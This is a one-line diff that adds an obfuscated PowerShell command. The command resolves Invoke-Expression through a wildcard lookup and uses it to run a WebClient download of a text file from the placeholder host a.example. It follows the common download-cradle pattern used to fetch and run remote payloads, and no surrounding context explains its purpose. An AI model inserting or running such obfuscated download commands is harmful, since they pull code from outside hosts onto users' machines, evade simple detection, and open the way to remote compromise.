@@ -1,0 +1,1 @@
+&(Get-Command i*x | ?{$_.Name -eq 'iex'}) '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
